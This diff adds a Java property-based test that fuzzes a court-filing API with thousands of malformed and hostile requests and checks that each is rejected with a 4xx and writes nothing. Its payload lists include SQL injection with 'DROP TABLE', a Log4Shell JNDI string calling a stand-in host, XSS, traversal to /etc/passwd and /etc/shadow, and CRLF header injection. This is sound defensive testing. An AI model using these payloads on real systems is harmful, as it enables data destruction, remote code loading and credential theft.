@@ -1,0 +1,354 @@
+package ir.daftar.api.it;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import ir.daftar.api.DaftarApplication;
+import java.io.ByteArrayOutputStream;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Combinators;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
+import net.jqwik.api.ShrinkingMode;
+import net.jqwik.api.lifecycle.AfterContainer;
+import net.jqwik.api.lifecycle.BeforeContainer;
+import org.springframework.boot.builder.SpringApplicationBuilder;
+import org.springframework.boot.web.context.WebServerApplicationContext;
+import org.springframework.context.ConfigurableApplicationContext;
+import org.springframework.jdbc.core.JdbcTemplate;
+
+/**
+ * A12: hostile input. Thousands of generated hostile requests (oversized, malformed JSON, wrong
+ * types, huge strings, invalid UTF-8 and Unicode, SQL and script injection in every field, path
+ * traversal in document titles and ids, deep nesting, wrong media types) are thrown at every
+ * endpoint that takes a body, as users allowed to call it, against a filing that exists. Each must
+ * get a 4xx, never a 5xx, and the event store must not grow by a single event.
+ *
+ * <p>The whole application runs here over real HTTP on an embedded database of its own (so that
+ * nothing else writes to the store meanwhile), with a 64 KB body limit so that oversized bodies
+ * stay cheap to generate.
+ */
+class HostileInputIT {
+
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final String PASSWORD = "fuzz-password";
+
+    static ConfigurableApplicationContext app;
+    static HttpClient http;
+    static String base;
+    static JdbcTemplate jdbc;
+    static String filingId;
+    static long events;
+
+    @BeforeContainer
+    static void start() throws Exception {
+        DaftarApplication.disableUpdateChecker();
+        Map<String, Object> props = new LinkedHashMap<>();
+        props.put("spring.datasource.url", "jdbc:h2:mem:hostile-" + UUID.randomUUID()
+                + ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1");
+        props.put("server.port", "0");
+        props.put("daftar.demo.enabled", "true");
+        props.put("daftar.http.max-body-size", "64KB");
+        props.put("daftar.integrity.key-file", "target/hostile-input-signing-key.properties");
+        props.put("daftar.status.rate-limit.capacity", "100000");
+        props.put("logging.level.root", "WARN");
+        String[][] accounts = {
+                {"fuzz-clerk", "OFFICE_CLERK", "0045678911", "OFF-1001"},
+                {"fuzz-applicant", "APPLICANT", "0089123451", null},
+                {"fuzz-gd", "GD_OFFICER", "0123456789", null}};
+        for (int i = 0; i < accounts.length; i++) {
+            String p = "daftar.security.accounts[" + i + "].";
+            props.put(p + "username", accounts[i][0]);
+            props.put(p + "password", "{noop}" + PASSWORD);
+            props.put(p + "role", accounts[i][1]);
+            props.put(p + "actor-id", accounts[i][2]);
+            if (accounts[i][3] != null) {
+                props.put(p + "office-id", accounts[i][3]);
+            }
+        }
+        // as arguments: they must win over application.yml (builder properties would only be defaults)
+        app = new SpringApplicationBuilder(DaftarApplication.class)
+                .run(props.entrySet().stream().map(p -> "--" + p.getKey() + "=" + p.getValue()).toArray(String[]::new));
+        base = "http://127.0.0.1:" + ((WebServerApplicationContext) app).getWebServer().getPort();
+        jdbc = app.getBean(JdbcTemplate.class);
+        http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
+        HttpResponse<String> started = send(new Attack("start", "POST", "/api/v1/filings", "fuzz-clerk",
+                JSON.writeValueAsBytes(ApiClient.officePetition("300000000")), "application/json"));
+        assertThat(started.statusCode()).as(started.body()).isEqualTo(201);
+        filingId = JSON.readTree(started.body()).path("filingId").asText();
+        events = eventCount();
+    }
+
+    @AfterContainer
+    static void stop() {
+        if (app != null) {
+            app.close();
+        }
+    }
+
+    @Property(tries = 2000, shrinking = ShrinkingMode.OFF, seed = "20180812")
+    void a_hostile_request_gets_a_4xx_and_writes_nothing(@ForAll("attacks") Attack attack) throws Exception {
+        HttpResponse<String> response = send(attack);
+        assertThat(response.statusCode()).as("%s -> %s %s", attack, response.statusCode(), response.body()).isBetween(400, 499);
+        assertThat(response.statusCode()).as("%s: a client error, not an authentication one", attack).isNotIn(401);
+        assertThat(eventCount()).as("%s wrote to the event store", attack).isEqualTo(events);
+    }
+
+    // --- the attacks ------------------------------------------------------------------------------------
+
+    /** One request: what it tries, and the bytes it sends. */
+    record Attack(String what, String method, String path, String user, byte[] body, String contentType) {
+        @Override
+        public String toString() {
+            String shown = new String(body, StandardCharsets.UTF_8);
+            return what + " " + method + " " + path + " as " + user + " [" + contentType + ", " + body.length + " bytes: "
+                    + (shown.length() > 200 ? shown.substring(0, 200) + "..." : shown) + "]";
+        }
+    }
+
+    enum Kind { TEXT, TITLE, CODE, ENUM, NUMBER, AMOUNT }
+
+    record Field(String path, Kind kind) {
+    }
+
+    /** An endpoint with a valid body, the user who may call it, and the fields of the body. */
+    record Endpoint(String method, String path, String user, Map<String, Object> valid, List<Field> fields) {
+    }
+
+    static List<Endpoint> endpoints() {
+        String f = "/api/v1/filings/" + filingId;
+        return List.of(
+                new Endpoint("POST", "/api/v1/filings", "fuzz-clerk", ApiClient.officePetition("300000000"), List.of(
+                        new Field("route", Kind.ENUM), new Field("kind", Kind.ENUM), new Field("claimNature", Kind.ENUM),
+                        new Field("claimValueRials", Kind.AMOUNT), new Field("applicant.type", Kind.ENUM),
+                        new Field("applicant.identifier", Kind.CODE), new Field("applicant.name", Kind.TEXT),
+                        new Field("competentAuthorityId", Kind.CODE), new Field("subject", Kind.TEXT),
+                        new Field("defendants.0.name", Kind.TEXT), new Field("defendants.0.type", Kind.ENUM))),
+                new Endpoint("POST", f + "/identity-verification", "fuzz-clerk", Map.of("method", "NATIONAL_SMART_CARD"),
+                        List.of(new Field("method", Kind.ENUM))),
+                new Endpoint("POST", f + "/documents", "fuzz-clerk", Map.of("title", "دادخواست", "pageCount", 2,
+                        "contentBase64", Base64.getEncoder().encodeToString("scan".getBytes(StandardCharsets.UTF_8))),
+                        List.of(new Field("title", Kind.TITLE), new Field("pageCount", Kind.NUMBER),
+                                new Field("contentBase64", Kind.CODE), new Field("documentId", Kind.CODE),
+                                new Field("sha256", Kind.CODE))),
+                new Endpoint("POST", f + "/court-fee/payment", "fuzz-clerk", Map.of("paymentReference", "PAY-1",
+                        "amountRials", "1000", "receiptNumber", "R-1"),
+                        List.of(new Field("paymentReference", Kind.CODE), new Field("amountRials", Kind.AMOUNT),
+                                new Field("receiptNumber", Kind.CODE))),
+                new Endpoint("POST", f + "/documents/doc-1/conformity", "fuzz-clerk", Map.of("verdict", "REJECTED",
+                        "reason", "ناخوانا"), List.of(new Field("verdict", Kind.ENUM), new Field("reason", Kind.TEXT))),
+                new Endpoint("POST", f + "/contact-details", "fuzz-clerk", Map.of("mobile", "09121234567",
+                        "electronicAddress", "zahra@example.org"),
+                        List.of(new Field("mobile", Kind.CODE), new Field("electronicAddress", Kind.CODE))),
+                new Endpoint("PUT", f + "/contact-details", "fuzz-applicant", Map.of("mobile", "09121234567",
+                        "electronicAddress", "zahra@example.org"),
+                        List.of(new Field("mobile", Kind.CODE), new Field("electronicAddress", Kind.CODE))),
+                new Endpoint("POST", f + "/notification-undertaking", "fuzz-clerk",
+                        Map.of("signedFormSha256", ApiClient.SIGNED_FORM), List.of(new Field("signedFormSha256", Kind.CODE))),
+                new Endpoint("POST", "/api/v1/offices", "fuzz-gd", Map.of("officeId", "OFF-9001", "name", "دفتر آزمون",
+                        "origin", "NOTARY_OFFICE", "province", "تهران", "city", "تهران"),
+                        List.of(new Field("officeId", Kind.CODE), new Field("name", Kind.TEXT), new Field("origin", Kind.ENUM),
+                                new Field("province", Kind.TEXT), new Field("city", Kind.TEXT))),
+                new Endpoint("POST", "/api/v1/offices/OFF-1001/staff", "fuzz-gd", Map.of("nationalCode", "0098765434",
+                        "name", "کارمند آزمون", "role", "CLERK", "fullTime", true),
+                        List.of(new Field("nationalCode", Kind.CODE), new Field("name", Kind.TEXT),
+                                new Field("role", Kind.ENUM))));
+    }
+
+    static final List<String> INJECTION = List.of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
+            "1 UNION SELECT payload FROM domain_event_entry", "\" OR \"\"=\"", "admin'--", "1; SELECT pg_sleep(5)",
+            "${jndi:ldap://evil/a}", "{{7*7}}", "%00", "\\x00", "0089123451' --", "OFF-1001'--");
+    static final List<String> SCRIPT = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+            "\"><svg onload=alert(1)>", "</textarea><script>fetch('/api')</script>", "<iframe src=javascript:alert(1)>");
+    static final List<String> TRAVERSAL = List.of("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow",
+            "....//....//etc/hosts", "..%2f..%2fetc%2fpasswd", "C:\\boot.ini");
+    static final List<String> CONTROL = List.of("a\u0000b", "x\u001b[31my", "\u202Eevil.exe", "bad\uD800", "\uDC00x",
+            "\uFFFF", "line\u0085break", "\u0007bell");
+
+    @Provide
+    Arbitrary<Attack> attacks() {
+        Arbitrary<Endpoint> endpoint = Arbitraries.of(endpoints());
+        return Arbitraries.frequencyOf(
+                net.jqwik.api.Tuple.of(6, endpoint.flatMap(HostileInputIT::fieldAttack)),
+                net.jqwik.api.Tuple.of(2, endpoint.flatMap(HostileInputIT::malformedJson)),
+                net.jqwik.api.Tuple.of(2, endpoint.flatMap(HostileInputIT::invalidUtf8)),
+                net.jqwik.api.Tuple.of(1, endpoint.flatMap(HostileInputIT::oversized)),
+                net.jqwik.api.Tuple.of(1, endpoint.flatMap(HostileInputIT::structural)),
+                net.jqwik.api.Tuple.of(1, Arbitraries.of(endpoints().stream().filter(e -> e.path().contains(filingId))
+                        .toList()).flatMap(HostileInputIT::hostilePath)));
+    }
+
+    /** One field of a valid body replaced by a value that field must refuse. */
+    static Arbitrary<Attack> fieldAttack(Endpoint e) {
+        return Arbitraries.of(e.fields()).flatMap(field -> hostileValue(field.kind()).map(value -> {
+            Map<String, Object> body = deepCopy(e.valid());
+            set(body, field.path(), value);
+            return attack("field " + field.path() + "=" + abbreviate(value), e, json(body));
+        }));
+    }
+
+    static Arbitrary<Object> hostileValue(Kind kind) {
+        Arbitrary<String> longText = Arbitraries.strings().withChars("ابپتثجچحخدذرزسشصضطظعغفقکگلمنوهی ").ofMinLength(1001)
+                .ofMaxLength(20_000);
+        Arbitrary<String> noise = Arbitraries.strings().withCharRange('a', 'z').ofMaxLength(8);
+        Arbitrary<String> script = Combinators.combine(noise, Arbitraries.of(SCRIPT), noise).as((a, s, b) -> a + s + b);
+        Arbitrary<String> control = Combinators.combine(noise, Arbitraries.of(CONTROL), noise).as((a, s, b) -> a + s + b);
+        Arbitrary<Object> wrongShape = Arbitraries.of(List.of(1, 2), Map.of("$gt", ""), List.of(), Map.of());
+        Arbitrary<String> textHostile = Arbitraries.oneOf(script, control, longText);
+        return switch (kind) {
+            case TEXT -> any(textHostile);
+            case TITLE -> any(textHostile, Arbitraries.of(TRAVERSAL).filter(t -> !t.startsWith("..%2f")));
+            case CODE -> any(Arbitraries.of(INJECTION), Arbitraries.of(TRAVERSAL), textHostile, wrongShape);
+            case ENUM -> any(Arbitraries.of(INJECTION), Arbitraries.of(SCRIPT), noise.map(n -> "X_" + n.toUpperCase()),
+                    wrongShape, Arbitraries.of(true, false));
+            case NUMBER -> any(Arbitraries.of(INJECTION), Arbitraries.of(SCRIPT), wrongShape,
+                    Arbitraries.of(-1, 0, 10_001, Integer.MIN_VALUE),
+                    Arbitraries.of(new java.math.BigDecimal("1e400"), new java.math.BigInteger("99999999999999999999")));
+            case AMOUNT -> any(Arbitraries.of(INJECTION), Arbitraries.of(SCRIPT),
+                    Arbitraries.of("-5", "1e999", "12abc", "9999999999999999999999"), wrongShape);
+        };
+    }
+
+    @SafeVarargs
+    static Arbitrary<Object> any(Arbitrary<?>... parts) {
+        List<Arbitrary<Object>> all = new ArrayList<>();
+        for (Arbitrary<?> part : parts) {
+            all.add(part.map(v -> (Object) v));
+        }
+        return Arbitraries.oneOf(all);
+    }
+
+    /** A body that is not JSON: cut short, random punctuation, or garbage. */
+    static Arbitrary<Attack> malformedJson(Endpoint e) {
+        byte[] valid = json(e.valid());
+        Arbitrary<byte[]> truncated = Arbitraries.integers().between(1, valid.length - 1)
+                .map(n -> java.util.Arrays.copyOf(valid, n));
+        Arbitrary<byte[]> punctuation = Arbitraries.strings().withChars("{}[]\":,\\ ntrufalse0123456789.-e")
+                .ofMinLength(1).ofMaxLength(300).map(s -> s.getBytes(StandardCharsets.UTF_8));
+        Arbitrary<byte[]> garbage = Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(500);
+        return Arbitraries.oneOf(truncated, punctuation, garbage).map(b -> attack("malformed JSON", e, b));
+    }
+
+    /** Invalid UTF-8 (stray bytes, overlong forms, encoded surrogates) inside a string of a valid body. */
+    static Arbitrary<Attack> invalidUtf8(Endpoint e) {
+        byte[] valid = json(e.valid());
+        List<Integer> stringStarts = new ArrayList<>();
+        for (int i = 1; i < valid.length; i++) {
+            if (valid[i - 1] == ':' && valid[i] == '"') {
+                stringStarts.add(i + 1);
+            }
+        }
+        Arbitrary<byte[]> bad = Arbitraries.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC0, (byte) 0xAF},
+                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0x80},
+                new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
+                new byte[] {(byte) 0xE2, (byte) 0x28, (byte) 0xA1}, new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80});
+        return Combinators.combine(Arbitraries.of(stringStarts), bad).as((at, b) -> {
+            ByteArrayOutputStream out = new ByteArrayOutputStream();
+            out.write(valid, 0, at);
+            out.writeBytes(b);
+            out.write(valid, at, valid.length - at);
+            return attack("invalid UTF-8", e, out.toByteArray());
+        });
+    }
+
+    /** A body above the size limit (64 KB here). */
+    static Arbitrary<Attack> oversized(Endpoint e) {
+        return Arbitraries.integers().between(65 * 1024, 300 * 1024).map(size -> {
+            Map<String, Object> body = deepCopy(e.valid());
+            body.put("padding", "a".repeat(size));
+            return attack("oversized body", e, json(body));
+        });
+    }
+
+    /** The wrong shape altogether: another JSON type, deep nesting, another media type. */
+    static Arbitrary<Attack> structural(Endpoint e) {
+        Arbitrary<Attack> otherType = Arbitraries.of("[]", "\"text\"", "42", "true", "null", "[{}]", "{\"a\":{\"b\":[]}}")
+                .map(s -> attack("another JSON type", e, s.getBytes(StandardCharsets.UTF_8)));
+        Arbitrary<Attack> nested = Arbitraries.integers().between(1_001, 20_000)
+                .map(depth -> attack("nesting " + depth, e, ("[".repeat(depth) + "]".repeat(depth)).getBytes(StandardCharsets.UTF_8)));
+        Arbitrary<Attack> nestedObject = Arbitraries.integers().between(1_001, 5_000)
+                .map(depth -> attack("object nesting " + depth, e, ("{\"a\":".repeat(depth) + "1" + "}".repeat(depth))
+                        .getBytes(StandardCharsets.UTF_8)));
+        Arbitrary<Attack> mediaType = Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
+                "multipart/form-data; boundary=x").map(type -> new Attack("media type " + type, e.method(), e.path(), e.user(),
+                json(e.valid()), type));
+        return Arbitraries.oneOf(otherType, nested, nestedObject, mediaType);
+    }
+
+    /** Injection and traversal in the path instead of the body. */
+    static Arbitrary<Attack> hostilePath(Endpoint e) {
+        Arbitrary<String> segment = Arbitraries.of("..%2F..%2Fadmin", "%2e%2e%2f%2e%2e", "x'%20OR%20'1'%3D'1",
+                "%3Cscript%3E", "%00", "a%0d%0aSet-Cookie:x", "..;", "%252e%252e%252f", "a".repeat(300));
+        return segment.map(s -> new Attack("path " + s, e.method(),
+                e.path().replace(filingId, s), e.user(), json(e.valid()), "application/json"));
+    }
+
+    // --- plumbing ---------------------------------------------------------------------------------------
+
+    static Attack attack(String what, Endpoint e, byte[] body) {
+        return new Attack(what, e.method(), e.path(), e.user(), body, "application/json");
+    }
+
+    static HttpResponse<String> send(Attack a) throws Exception {
+        HttpRequest request = HttpRequest.newBuilder(URI.create(base + a.path()))
+                .timeout(Duration.ofSeconds(30))
+                .header("Content-Type", a.contentType())
+                .header("Accept-Language", "en")
+                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString((a.user() + ":" + PASSWORD)
+                        .getBytes(StandardCharsets.UTF_8)))
+                .method(a.method(), HttpRequest.BodyPublishers.ofByteArray(a.body()))
+                .build();
+        return http.send(request, HttpResponse.BodyHandlers.ofString());
+    }
+
+    static long eventCount() {
+        return jdbc.queryForObject("SELECT count(*) FROM domain_event_entry", Long.class);
+    }
+
+    static byte[] json(Object body) {
+        try {
+            return JSON.writeValueAsBytes(body);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    @SuppressWarnings("unchecked")
+    static Map<String, Object> deepCopy(Map<String, Object> body) {
+        return JSON.convertValue(body, LinkedHashMap.class);
+    }
+
+    @SuppressWarnings("unchecked")
+    static void set(Map<String, Object> body, String path, Object value) {
+        String[] parts = path.split("\\.");
+        Object node = body;
+        for (int i = 0; i < parts.length - 1; i++) {
+            node = node instanceof List<?> list ? list.get(Integer.parseInt(parts[i])) : ((Map<String, Object>) node).get(parts[i]);
+        }
+        String last = parts[parts.length - 1];
+        if (node instanceof List<?> list) {
+            ((List<Object>) list).set(Integer.parseInt(last), value);
+        } else {
+            ((Map<String, Object>) node).put(last, value);
+        }
+    }
+
+    static String abbreviate(Object value) {
+        String s = String.valueOf(value);
+        return s.length() > 60 ? s.substring(0, 60) + "...(" + s.length() + ")" : s;
+    }
+}
